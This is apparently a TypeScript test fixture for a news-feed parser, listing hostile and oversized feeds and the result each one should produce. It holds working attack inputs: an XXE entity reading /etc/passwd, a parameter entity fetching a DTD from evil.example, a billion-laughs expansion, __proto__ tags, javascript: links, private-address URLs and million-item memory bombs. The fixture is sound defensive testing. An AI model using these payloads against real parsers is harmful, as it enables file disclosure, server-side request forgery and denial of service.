import { item, type OddFeed, rss } from "./odd-feed.ts";

const billion = Array.from(
  { length: 20 },
  (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`,
).join("");
const links = [
  "javascript:alert(1)",
  "data:text/html,x",
  "https://user:secret@tribune.example/a",
  "https://localhost/a",
  "https://127.0.0.1/a",
  "http://2130706433/a",
  "https://[::ffff:7f00:1]/a",
  "https://printer.local/a",
];
const elsewhere = [
  "https://herald.example/a",
  "https://tribune.example.herald.example/a",
  "https://nottribune.example/a",
  "https://herald.example/https://tribune.example/a",
];
const itemsAt = (addresses: readonly string[]) =>
  addresses.map((address) => item(`<link>${address}</link>`)).join("");

/** Feeds that try to read the user's machine, or to use another outlet's name. */
export const HOSTILE: readonly OddFeed[] = [
  {
    what: "an entity that reads a file (XXE)",
    feed: rss(
      item("<title>A &x; B</title>"),
      '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    ),
    expected: [{ title: "A &x; B" }],
  },
  {
    what: "a parameter entity that loads an address",
    feed: rss(
      item("<title>A &x; B</title>"),
      '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % y SYSTEM "https://evil.example/x.dtd">%y;]>',
    ),
    expected: [{ title: "A &x; B" }],
  },
  {
    what: "entities that unfold to a billion laughs",
    feed: rss(
      item("<title>A &e20; B</title>"),
      `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY e0 "boom">${billion}]>`,
    ),
    expected: [{ title: "A &e20; B" }],
  },
  {
    what: "tags named __proto__",
    feed: rss(item("<__proto__>x</__proto__>")),
    expected: "not-a-feed",
  },
  {
    what: "links to scripts, private addresses, and with a password",
    feed: rss(itemsAt(links)),
    expected: [],
  },
  {
    what: "four articles of another site, some of which name the outlet's",
    feed: rss(itemsAt(elsewhere)),
    expected: "other-site",
  },
  {
    what: "an article of another site beside one of the outlet's",
    feed: rss(item("<link>https://herald.example/a</link>") + item("")),
    expected: [{ webUrl: "https://tribune.example/harbour" }],
  },
  {
    what: "a source that says it is the outlet's, and a link that is not",
    feed: rss(
      item(
        '<link>https://herald.example/a</link><source url="https://tribune.example/">The Tribune</source>',
      ),
    ),
    expected: "other-site",
  },
];

/** Feeds that would cost a careless parser hours, or all memory. */
export const LARGE: readonly OddFeed[] = [
  {
    what: "600,000 items without anything",
    feed: () => rss("<item/>".repeat(600_000)),
    expected: [],
  },
  {
    what: "a million items of JSON",
    feed: () =>
      `{"version":"https://jsonfeed.org/version/1.1","title":"T","items":[${"{},".repeat(1_000_000)}{}]}`,
    expected: [],
  },
  {
    what: "a DOCTYPE with a million unclosed comments",
    feed: () => `<!DOCTYPE rss [${"<!-- ".repeat(1_000_000)}`,
    expected: "not-a-feed",
  },
  {
    what: "a million and a half unclosed tags",
    feed: () => rss("<a ".repeat(1_600_000)),
    expected: [],
  },
];
